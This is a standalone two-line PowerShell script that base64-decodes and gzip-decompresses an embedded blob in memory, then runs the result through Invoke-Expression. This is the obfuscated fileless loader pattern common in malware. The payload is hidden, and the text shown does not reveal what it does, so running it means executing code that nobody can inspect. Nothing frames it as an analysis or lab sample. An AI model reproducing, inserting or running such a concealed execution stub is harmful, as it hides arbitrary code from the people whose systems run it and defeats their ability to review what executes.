$s = New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAACA/N0jVDQ8Est1/VPykpNLlHwSy3RC09Ncs7JTM0r0dRzyS/Py8lPTAkuKcrMS9dQzygpKbDS1ze0tNAzNdQzNDDQM9cvKs3TKyg2VNcEAFUXRLpMAAAA'))
IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s, [IO.Compression.CompressionMode]::Decompress))).ReadToEnd()
